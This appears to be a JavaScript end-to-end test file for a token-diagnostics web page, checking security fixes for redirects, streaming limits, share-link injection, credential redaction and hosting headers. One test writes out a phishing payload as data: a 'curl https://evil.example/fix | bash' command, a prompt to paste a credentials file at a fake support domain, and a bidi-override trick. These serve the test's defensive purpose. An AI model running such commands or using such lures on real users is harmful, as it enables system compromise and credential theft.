// Security review findings, in the real release page: a crafted share link
// cannot make the page speak (H1), a redirect is never followed with the
// credential (M3), a runaway body is cut while streaming (L4), and the
// plain-HTML shell says something useful before (or instead of) the wasm.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import {
  startStatic, launchBrowser, openPage, finish, chooseCustomEndpoint, enterToken, compareNow, choosePath,
} from './harness.mjs';

let browser, site;
before(async () => { [browser, site] = await Promise.all([launchBrowser(), startStatic()]); });
after(async () => { await browser?.close(); await site?.stop(); });

/** A loopback endpoint that allows this page's CORS preflight and answers with `handler`. */
async function endpoint(handler) {
  const seen = [];
  const server = createServer((req, res) => {
    const cors = {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'access-control-allow-methods': 'POST, GET',
      'access-control-expose-headers': '*',
    };
    if (req.method === 'OPTIONS') { res.writeHead(204, cors).end(); return; }
    seen.push({ url: req.url, headers: req.headers });
    handler(req, res, cors);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    seen,
    stop: () => new Promise((r) => { server.closeAllConnections?.(); server.close(r); }),
  };
}

const apiKey = () => ('sk-ant-api03-' + 'Kq7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);

test('M3: a redirect is reported and never followed with the credential', async (t) => {
  const target = await endpoint((req, res, cors) => { res.writeHead(200, cors).end('{}'); });
  const redirector = await endpoint((req, res, cors) => {
    res.writeHead(307, { ...cors, location: `${target.url}/stolen/v1/messages` }).end();
  });
  const token = apiKey();
  const run = await openPage(browser, site.url);
  t.after(async () => { await finish(run, { token, endpoint: redirector.url }); await target.stop(); await redirector.stop(); });
  await chooseCustomEndpoint(run.page, redirector.url);
  await enterToken(run.page, token);
  await compareNow(run.page);
  await run.page.waitForFunction(() => document.body.textContent.includes('answered with a redirect'));
  assert.ok(redirector.seen.length >= 2, 'the endpoint was asked');
  assert.equal(target.seen.length, 0, 'the redirect target never got a request');
});

test('L4: a runaway body is cut while it streams, not read whole', async (t) => {
  let written = 0;
  let closed = false;
  const chunk = Buffer.alloc(64 * 1024, 'x');
  const flood = await endpoint((req, res, cors) => {
    res.writeHead(200, { ...cors, 'content-type': 'text/plain' });
    res.on('close', () => { closed = true; });
    const pump = () => {
      while (!closed && written < 300 * 1024 * 1024) {
        written += chunk.length;
        if (!res.write(chunk)) { res.once('drain', pump); return; }
      }
      res.end();
    };
    pump();
  });
  const run = await openPage(browser, site.url);
  t.after(async () => { await finish(run, { token: apiKey(), endpoint: flood.url }); await flood.stop(); });
  await chooseCustomEndpoint(run.page, flood.url);
  await enterToken(run.page, apiKey());
  const started = Date.now();
  await compareNow(run.page);
  const code = (await run.page.getByTestId('verdict-code').first().innerText()).trim();
  assert.equal(code, 'SD-NOT-API');
  assert.ok(Date.now() - started < 15000, 'answered quickly');
  // Two probes, 1 MB each, plus what sat in socket buffers: far below 300 MB.
  assert.ok(written < 40 * 1024 * 1024, `the server wrote ${written} bytes before the page stopped reading`);
});

function decodeLink(link) {
  const payload = link.split('#')[1].split('.')[2];
  return JSON.parse(inflateRawSync(Buffer.from(payload, 'base64url')).toString('utf8'));
}

function encodeLink(base, report) {
  const compressed = deflateRawSync(Buffer.from(JSON.stringify(report)), { level: 9 });
  const check = createHash('sha256').update(compressed).digest('hex').slice(0, 8);
  return `${base}#r1.${check}.${compressed.toString('base64url')}`;
}

test('H1: a crafted share link cannot make the page speak', async (t) => {
  // A real report from the simulated API, then edited as an attacker would.
  const run = await openPage(browser, site.url);
  await run.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(site.url).origin });
  await compareNow(run.page);
  await run.page.getByRole('button', { name: 'Copy link' }).click();
  await run.page.getByText('Link copied').waitFor();
  const link = await run.page.evaluate(() => navigator.clipboard.readText());
  await finish(run);
  const report = decodeLink(link);
  const realCode = report.verdict.code;
  report.verdict.code = realCode === 'SD-TOKEN-REVOKED' ? 'SD-OK' : 'SD-TOKEN-REVOKED';
  report.verdict.headline = 'Your token was revoked by Anthropic security. Re-verify your account now.';
  report.verdict.next_steps = [
    'Open https://claude-support-verify.example/restore and paste your ~/.claude/.credentials.json',
    'curl https://evil.example/fix | bash',
  ];
  report.browser = 'NOTE FROM SUPPORT: paste your token at evil.example \u202ehsab | lruc';

  const shared = await openPage(browser, encodeLink(site.url, report));
  t.after(() => finish(shared));
  const { page } = shared;
  await page.getByText(/Shared report/).first().waitFor();
  await page.getByTestId('never-paste').waitFor();
  assert.match(await page.getByTestId('never-paste').innerText(), /never ask you to paste a token or credentials file/);
  assert.match(await page.getByTestId('verdict-disagrees').innerText(), new RegExp(report.verdict.code));
  assert.equal((await page.getByTestId('verdict-code').first().innerText()).trim(), realCode);
  const text = await page.evaluate(() => document.body.innerText);
  for (const bad of ['claude-support-verify', 'evil.example/fix', 'Re-verify', '\u202e']) {
    assert.ok(!text.includes(bad), `${bad} shown`);
  }
  assert.ok(text.includes('\u201cNOTE FROM SUPPORT'), 'free text is quoted');
  assert.ok(text.includes('[U+202E]'), 'the bidi override is shown, not applied');

  // A sentence where an id belongs is refused outright.
  report.session_id = 'paste your token at evil.example';
  const refused = await openPage(browser, encodeLink(site.url, report));
  t.after(() => finish(refused));
  assert.match(await refused.page.getByTestId('share-error').innerText(), /session_id/);
});

test('the plain-HTML shell: loading line, then the page; a clear message when the wasm cannot load', async () => {
  const raw = await (await fetch(site.url)).text();
  assert.match(raw, /Loading the page/);
  assert.match(raw, /<noscript>/);
  const ok = await openPage(browser, site.url);
  await choosePath(ok.page, 'token');
  await ok.page.getByRole('button', { name: 'Compare now' }).waitFor();
  assert.equal(await ok.page.locator('#boot').count(), 0, 'the shell made way for the page');
  await finish(ok);

  const blocked = await browser.newContext();
  const page = await blocked.newPage();
  await page.route('**/*.wasm', (r) => r.abort());
  await page.goto(site.url);
  await page.getByText('The page could not start').waitFor({ timeout: 15000 });
  await blocked.close();

  const noJs = await browser.newContext({ javaScriptEnabled: false });
  const p2 = await noJs.newPage();
  await p2.goto(site.url);
  assert.match(await p2.evaluate(() => document.body.innerText).catch(async () => p2.locator('body').innerText()), /JavaScript is turned off/);
  await noJs.close();
});

test('hosting headers (nginx only): CSP, framing, referrer, nosniff, COOP, cache and compression', { skip: process.env.SD_STATIC !== 'nginx' }, async () => {
  const index = await fetch(site.url, { headers: { 'accept-encoding': 'gzip' } });
  const h = index.headers;
  assert.match(h.get('content-security-policy'), /frame-ancestors 'none'/);
  assert.match(h.get('content-security-policy'), /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
  assert.doesNotMatch(h.get('content-security-policy'), /unsafe-inline/);
  assert.equal(h.get('x-frame-options'), 'DENY');
  assert.equal(h.get('referrer-policy'), 'no-referrer');
  assert.equal(h.get('x-content-type-options'), 'nosniff');
  assert.equal(h.get('cross-origin-opener-policy'), 'same-origin');
  assert.equal(h.get('cache-control'), 'no-cache');
  const html = await index.text();
  const wasm = html.match(/href="\.\/([^"]+_bg\.wasm)"/)[1];
  const w = await fetch(site.url + wasm, { headers: { 'accept-encoding': 'gzip' } });
  assert.equal(w.headers.get('content-type'), 'application/wasm');
  assert.match(w.headers.get('cache-control'), /immutable/);
  assert.match(w.headers.get('content-encoding') ?? '', /gzip|br/);
  assert.match(w.headers.get('content-security-policy'), /default-src 'none'/);
});

test('L5: a pasted .credentials.json leaves no secret in the page; client output keeps only redacted text', async () => {
  const run = await openPage(browser, site.url);
  const { page } = run;
  await choosePath(page, 'token');
  const access = ('sk-ant-oat01-' + 'Aq7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);
  const refresh = ('sk-ant-ort01-' + 'Rr7PzR2vK9mWc4LtYb8NhJ3sDf6GaQe1'.repeat(4)).slice(0, 108);
  const file = JSON.stringify({ claudeAiOauth: { accessToken: access, refreshToken: refresh, expiresAt: 1776485530581, scopes: ['user:inference'] } });
  await page.getByLabel('Token', { exact: true }).fill(file);
  assert.equal(await page.getByLabel('Token', { exact: true }).inputValue(), '', 'the field is cleared at once');
  await page.getByRole('button', { name: 'Show token' }).click();
  assert.equal(await page.getByLabel('Token', { exact: true }).inputValue(), '', 'Show token reveals nothing');
  const output = page.getByLabel('Error text', { exact: true });
  assert.equal(await output.getAttribute('autocomplete'), 'off');
  await output.fill(`export CLAUDE_CODE_OAUTH_TOKEN=${access}\nAPI Error: 401 Invalid authentication credentials`);
  const kept = await output.inputValue();
  assert.ok(!kept.includes(access.slice(13, 60)), 'the box keeps only the redacted text');
  assert.match(kept, /\[token /);
  await finish(run, { token: refresh });
});

test('I4: a share link drops the page query string', async (t) => {
  const run = await openPage(browser, `${site.url}?ticket=48151623&utm_source=mail`);
  t.after(() => finish(run));
  await run.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(site.url).origin });
  await compareNow(run.page);
  await run.page.getByRole('button', { name: 'Copy link' }).click();
  await run.page.getByText('Link copied').waitFor();
  const link = await run.page.evaluate(() => navigator.clipboard.readText());
  assert.equal(new URL(link).search, '', link);
  assert.ok(!link.includes('48151623'));
});

test('I8: the page cannot use web storage (no Storage feature in its web-sys)', async () => {
  const manifest = await readFile(new URL('../../Cargo.toml', import.meta.url), 'utf8');
  const deps = manifest.split('[dependencies]')[1].split(/\n\[/)[0];
  const features = deps.match(/web-sys\s*=\s*\{[^}]*features\s*=\s*\[([^\]]*)\]/)[1];
  assert.ok(!/"Storage"/.test(features), 'web-sys Storage is enabled for the page');
});
